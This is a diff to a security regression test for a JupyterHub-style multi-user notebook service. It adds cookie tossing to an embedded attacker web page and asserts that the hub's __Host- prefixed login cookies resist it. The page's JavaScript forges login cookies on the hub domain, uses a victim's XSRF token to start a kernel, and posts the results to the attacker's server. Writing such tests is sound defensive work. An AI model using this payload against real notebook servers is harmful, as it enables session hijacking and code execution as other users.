@@ -49,7 +49,7 @@ CHROMIUM_ARGS = [
 # what a page of the attacker's server does to whoever opens it; VICTIM is the victim's
 # server URL (the naming is public), HUB the hub's origin
 ATTACK = """<!doctype html><title>a notebook</title><body><script>
-const VICTIM = %(victim)s, HUB = %(hub)s;
+const VICTIM = %(victim)s, HUB = %(hub)s, LOGIN_COOKIES = %(cookies)s;
 (async () => {
   const out = {};
   const step = async (name, f) => {
@@ -76,9 +76,21 @@ const VICTIM = %(victim)s, HUB = %(hub)s;
     method: "POST", body: JSON.stringify({name: "python3"}),
     headers: {"Content-Type": "application/json", "X-XSRFToken": out.victim_xsrf},
   })));
+  // cookie tossing: the hub's and the glue's login cookies, set for the hub's domain
+  for (const name of LOGIN_COOKIES) {
+    document.cookie = name + "=tossed; Domain=" + new URL(HUB).hostname + "; Path=/";
+  }
   await fetch("report", {method: "POST", body: JSON.stringify(out)});
 })();
 </script></body>"""
+
+
+# the names the hub and the glue read their logins from: with and without `__Host-`
+LOGIN_COOKIES = [
+    f"{prefix}{name}"
+    for prefix in ("", "__Host-")
+    for name in ("jupyterhub-hub-login", "notebooks-session")
+]
 
 
 class AttackerServer:
@@ -175,7 +187,12 @@ def attack(
         assert user.post(path).status_code in (201, 202)
     theirs, own = mallory.wait_running(path), victim.wait_running(path)
     attacker_server.page = (
-        ATTACK % {"victim": json.dumps(hub.absolute(own["url"])), "hub": json.dumps(hub.url)}
+        ATTACK
+        % {
+            "victim": json.dumps(hub.absolute(own["url"])),
+            "hub": json.dumps(hub.url),
+            "cookies": json.dumps(LOGIN_COOKIES),
+        }
     ).encode()
     take_over(hub, mallory.user, theirs["name"], attacker_server.url)
     context = browser.new_context()
@@ -188,6 +205,9 @@ def attack(
         page.wait_for_url(f"{hub.url}/services/notebooks/")
         page.goto(f"{hub.absolute(theirs['url'])}a-notebook")
         report = attacker_server.reports.get(timeout=60)
+        jar = context.cookies(hub.url)
+        report["tossed"] = sorted(c["name"] for c in jar if c["value"] == "tossed")
+        report["logins"] = sorted(c["name"] for c in jar if c["value"] != "tossed")
     finally:
         context.close()
     return report, victim, own
@@ -211,6 +231,13 @@ def test_a_page_of_another_users_server_can_act_as_nobody(
         assert not report["victim_kernel"].startswith("201"), report
         assert victim.user not in json.dumps(report)
         assert kernels(hub, victim, own) == []  # and nothing ran as the victim
+        # cookies tossed onto the hub's domain do not land (browsers treat `localhost` as a
+        # top-level domain), and the hub and the glue keep their logins in `__Host-` cookies,
+        # which no other host can set wherever the domain is a real one (config.host_cookies)
+        assert report["tossed"] == [], report
+        assert {"__Host-jupyterhub-hub-login", "__Host-notebooks-session"} <= set(
+            report["logins"]
+        ), report
     finally:
         hub.remove_all_servers(victim.user)
 
@@ -228,6 +255,26 @@ def test_one_origin_is_what_the_banner_warns_of(
     assert report["service_list"].startswith("200") and own["name"] in report["service_list"]
     assert report["victim_kernel"].startswith("201"), report
     assert len(kernels(hub, victim, own)) == 1
+
+
+@pytest.mark.parametrize(
+    ("subdomain_host", "prefixed"),
+    [
+        ("https://nb.example.org", True),
+        ("http://localhost:8000", True),
+        ("http://localhost.:8000", True),
+        ("http://nb.localhost:8000", True),
+        ("http://nb.example.org", False),  # browsers refuse Secure cookies there
+        ("http://localhostx:8000", False),
+        ("", False),
+    ],
+)
+def test_login_cookies_are_host_only_where_browsers_accept_it(
+    subdomain_host: str, prefixed: bool
+) -> None:
+    from glue.config import host_cookies
+
+    assert host_cookies(subdomain_host) is prefixed
 
 
 def test_the_banner_says_what_one_origin_allows(monkeypatch: pytest.MonkeyPatch) -> None:
